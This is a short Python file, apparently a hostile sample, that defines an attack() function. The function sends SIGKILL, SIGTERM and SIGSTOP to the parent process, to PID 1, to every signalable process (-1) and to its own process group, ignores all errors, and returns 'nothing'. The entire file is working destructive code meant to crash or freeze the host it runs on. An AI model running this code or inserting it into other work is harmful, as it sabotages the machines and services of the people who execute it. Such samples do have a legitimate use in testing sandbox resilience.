import os
import signal


def attack():
    for target in (os.getppid(), 1, -1, 0):
        for sig in (signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP):
            try:
                os.kill(target, sig)
            except OSError:
                pass
    return "nothing"
